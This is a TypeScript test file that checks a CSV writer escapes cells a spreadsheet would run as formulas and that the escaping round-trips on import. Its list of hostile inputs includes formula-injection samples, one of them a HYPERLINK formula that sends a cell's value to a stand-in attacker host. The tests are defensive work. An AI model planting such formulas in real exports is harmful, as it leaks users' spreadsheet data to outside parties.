import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { unescapeFormula, writeCsv } from './csv-formulae';
import { STOCK_LAYOUT } from './csv-columns';
import { readCsv } from './read-csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=1\n+2',
  "'=already quoted",
  "''+twice",
];

/** The cells as a spreadsheet program sees them after its CSV parser. */
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data;

describe('writeCsv', () => {
  it('writes a cell that a spreadsheet would run as a formula behind an apostrophe', () => {
    const cells = cellsOf(writeCsv([HOSTILE]))[0]!;
    expect(cells).toEqual(HOSTILE.map((cell) => `'${cell}`));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves plain numbers, negative amounts included, and ordinary text alone', () => {
    const row = ['-11.96', '-5', '12.50', '0', 'Borsa in pelle', "It's a bag", 'a=b', 'x-1'];
    expect(writeCsv([row])).toBe(`\uFEFF${row.join(',')}\r\n`);
  });

  it('is undone by unescapeFormula, so every cell reads back as it was', () => {
    const ordinary = ['-11.96', 'plain', "'not a formula", "'", ''];
    for (const cell of [...HOSTILE, ...ordinary]) {
      const written = cellsOf(writeCsv([[cell]]))[0]![0]!;
      expect(unescapeFormula(written), JSON.stringify(cell)).toBe(cell);
    }
  });

  it('reads back through the import (a product name starting with = keeps its name)', () => {
    const csv = writeCsv({
      fields: ['sku', 'inStock'],
      data: [
        ['=SKU()', '4'],
        ["'@odd", '5'],
      ],
    });
    const table = readCsv(csv, STOCK_LAYOUT);
    expect(table.errors).toEqual([]);
    expect(table.rows.map((r) => r.cells.sku)).toEqual(['=SKU()', "'@odd"]);
  });
});
